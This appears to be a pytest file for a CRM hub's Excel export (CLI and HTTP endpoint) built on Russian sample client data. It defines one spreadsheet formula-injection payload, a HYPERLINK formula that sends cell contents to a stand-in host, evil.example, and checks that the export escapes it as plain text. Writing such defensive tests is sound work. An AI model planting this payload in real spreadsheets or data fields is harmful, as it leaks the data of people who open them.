"""`hub excel export` and GET /api/export.xlsx: the record as a workbook that opens cleanly and cannot attack."""

from __future__ import annotations

import io
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from excel_hub import PLUGINS, excel_hub
from excel_workbooks import write_xlsx
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from crm_hub_plugins.excel.records import XLSX_MEDIA_TYPE, export_from_hub
from hub.core.events import ClientKey, ClientObservation, InteractionObservation, SourceRef
from hub.web.app import create_app

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Нажми")'


def fill(env: Any, tmp_path: Path) -> None:
    """Two Russian clients and a company from a file, one call, a Bitrix24 client, a formula posing as a name."""
    path = write_xlsx(
        tmp_path / "clients.xlsx",
        [
            ["ФИО", "Телефон", "Почта", "Компания", "ИНН"],
            ["Иванов Иван Иванович", 79161234567.0, "ivan@mail.ru", "ООО Ромашка", "7707083893"],
            ["Петрова Анна", "8 916 222-33-44", "", "", ""],
        ],
    )
    env.import_json(path)
    env.hub.ingest(
        InteractionObservation(
            source=SourceRef(system="telephony", account="pbx", entity="call", id="c-1"),
            channel="call",
            client=ClientKey(phones=["+79161234567"]),
            direction="in",
            status="answered",
            occurred_at=datetime(2025, 3, 1, 10, 0, tzinfo=UTC),
            duration_s=65,
            subject="Звонок от Иванова",
        )
    )
    env.hub.ingest(
        ClientObservation(
            source=SourceRef(system="bitrix24", account="acme.bitrix24.ru", entity="contact", id="77"),
            name="Сидоров Пётр",
            phones=["+79165556677"],
        )
    )
    env.hub.ingest(
        ClientObservation(source=SourceRef(system="webform", entity="lead", id="1"), name=EVIL, phones=["+79163334455"])
    )


def sheet_rows(workbook: Any, name: str) -> list[dict[str, Any]]:
    rows = list(workbook[name].iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=False)) for row in rows[1:]]


def test_the_cli_export_opens_with_names_phones_companies_and_the_timeline(
    backend, monkeypatch, tmp_path: Path
) -> None:
    env = excel_hub(backend, monkeypatch)
    fill(env, tmp_path)
    target = tmp_path / "выгрузка.xlsx"
    result = env.cli("excel", "export", target, "--timeline")
    assert result.exit_code == 0, result.output
    assert "wrote 5 clients and 1 timeline items" in result.stdout
    book = load_workbook(target)
    assert book.sheetnames == ["Clients", "Timeline"]
    clients = {r["name"]: r for r in sheet_rows(book, "Clients")}
    ivanov = clients["Иванов Иван Иванович"]
    assert ivanov["phones"] == "+79161234567" and ivanov["emails"] == "ivan@mail.ru"
    assert ivanov["company"] == "ООО Ромашка" and clients["ООО Ромашка"]["kind"] == "company"
    assert "excel:clients/row/" in ivanov["refs"]
    assert clients["Петрова Анна"]["phones"] == "+79162223344"
    assert "'" + EVIL in clients  # shown as text, never run as a formula
    evil_cell = next(c for c in book["Clients"]["C"] if c.value == "'" + EVIL)
    assert evil_cell.data_type == "s"
    (call,) = sheet_rows(book, "Timeline")
    assert (call["channel"], call["direction"], call["subject"]) == ("call", "in", "Звонок от Иванова")
    assert call["client_id"] == ivanov["id"] and call["source"] == "telephony:pbx/call/c-1"

    only_bitrix = tmp_path / "b24.xlsx"
    assert env.cli("excel", "export", only_bitrix, "--source", "bitrix24").exit_code == 0
    assert [r["name"] for r in sheet_rows(load_workbook(only_bitrix), "Clients")] == ["Сидоров Пётр"]
    assert load_workbook(only_bitrix).sheetnames == ["Clients"]
    bad = env.cli("excel", "export", tmp_path / "x.xlsx", "--since", "вчера")
    assert bad.exit_code != 0 and "not a date" in bad.output and "Traceback" not in bad.output


def test_the_http_export_downloads_the_same_workbook(backend, monkeypatch, tmp_path: Path) -> None:
    env = excel_hub(backend, monkeypatch)
    fill(env, tmp_path)
    env.hub.prepare()
    api = TestClient(create_app(env.hub), base_url="http://127.0.0.1")
    response = api.get("/api/export.xlsx", params={"timeline": "1"})
    assert response.status_code == 200
    assert response.headers["content-type"] == XLSX_MEDIA_TYPE
    assert response.headers["content-disposition"].startswith("attachment;")
    assert ".xlsx" in response.headers["content-disposition"]
    book = load_workbook(io.BytesIO(response.content))
    names = {r["name"] for r in sheet_rows(book, "Clients")}
    assert {"Иванов Иван Иванович", "Петрова Анна", "ООО Ромашка", "Сидоров Пётр", "'" + EVIL} == names
    assert len(sheet_rows(book, "Timeline")) == 1

    plain = load_workbook(io.BytesIO(api.get("/api/export.xlsx", params={"source": "excel"}).content))
    assert plain.sheetnames == ["Clients"] and len(sheet_rows(plain, "Clients")) == 3
    future = api.get("/api/export.xlsx", params={"since": "2999-01-01"})
    assert sheet_rows(load_workbook(io.BytesIO(future.content)), "Clients") == []
    bad = api.get("/api/export.xlsx", params={"since": "yesterday"})
    assert bad.status_code == 422 and "not a date" in bad.json()["detail"]


def test_the_api_token_guards_the_export(embedded) -> None:
    hub = embedded.hub(PLUGINS, http={"api_token": "s3cret-token-of-16+chars"})
    hub.prepare()
    api = TestClient(create_app(hub), base_url="http://127.0.0.1")
    assert api.get("/api/export.xlsx").status_code == 401
    ok = api.get("/api/export.xlsx", headers={"Authorization": "Bearer s3cret-token-of-16+chars"})
    assert ok.status_code == 200 and ok.headers["content-type"] == XLSX_MEDIA_TYPE


def test_the_export_streams_clients_one_by_one(embedded, monkeypatch, tmp_path: Path) -> None:
    env = excel_hub(embedded, monkeypatch)
    rows: list[list[object]] = [["ФИО", "Телефон", "Компания", "ИНН"]]
    rows += [[f"Клиент Номер{i}", f"+7916{i:07d}", f"ООО Фирма {i}", ""] for i in range(30)]
    env.import_json(write_xlsx(tmp_path / "many.xlsx", rows))

    class Watched:
        """The hub as the export sees it, noting how far the client stream was read at each company lookup."""

        def __init__(self, hub: Any) -> None:
            self.hub, self.pulled = hub, 0
            self.seen_at_lookup: list[int] = []

        def iter_clients(self, **kwargs: Any) -> Any:
            for client in self.hub.iter_clients(**kwargs):
                self.pulled += 1
                yield client

        def iter_items(self, **kwargs: Any) -> Any:
            return self.hub.iter_items(**kwargs)

        def get_client(self, client_id: int) -> Any:
            self.seen_at_lookup.append(self.pulled)
            return self.hub.get_client(client_id)

    watched = Watched(env.hub)
    counts = export_from_hub(watched, tmp_path / "out.xlsx", timeline=True)
    assert counts.clients == watched.pulled == 60
    # each company name was looked up while its person's row was written, not after reading every client
    assert len(watched.seen_at_lookup) == 30 and watched.seen_at_lookup == sorted(set(watched.seen_at_lookup))
    assert watched.seen_at_lookup[0] < 60
